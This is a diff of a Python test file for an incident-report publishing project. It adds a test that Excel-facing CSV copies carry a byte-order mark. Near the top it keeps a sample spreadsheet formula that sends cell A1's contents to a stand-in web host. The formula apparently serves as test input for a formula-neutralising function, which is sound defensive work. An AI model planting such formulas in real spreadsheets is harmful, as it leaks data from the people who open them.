@@ -10,6 +10,7 @@ import shutil
 import subprocess
 import zipfile
 from datetime import date
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -22,7 +23,7 @@ from incident_report.data.archive import read_archive, unpack
 from incident_report.data.edition_zip import originals
 from incident_report.data.predecessor import read_previous_incidents, read_previous_series, read_previous_tallies
 from incident_report.data.spreadsheet import neutralise
-from incident_report.publish.bundle import bundle, write_zip
+from incident_report.publish.bundle import BOM, bundle, write_zip
 from incident_report.publish.collect import Found
 
 FORMULA = '=HYPERLINK("http://example.org?"&A1,"see")'
@@ -172,3 +173,14 @@ def test_lines_of_r_count_what_the_report_counts(tmp_path):
         assert list(table.columns) == [c for c in table.columns if re.fullmatch(r"[A-Za-z][\w.]*", c)]  # names as in R
         found = table[table["counted"] == "true"].groupby(["quarter", "attack_method"]).size().to_dict()
     assert found == expected[expected > 0].to_dict()
+
+
+def test_every_table_has_a_copy_that_excel_reads_right():
+    files = {name: content for name, content in bundle(founding(), []).items() if name.endswith(".csv")}
+    copies = {n.partition("/")[2] for n in files if n.startswith("edition/")}
+    assert all(content.startswith(BOM) == name.startswith("edition/") for name, content in files.items())
+    filled = {
+        Path(n).name for n, c in files.items() if c.count(b"\n") > 1 and not n.startswith(("edition/", "incidents/"))
+    }
+    # Days and points of this project's own making, in letters that any program reads.
+    assert filled - copies <= {"coverage.csv", "governorates.csv"}
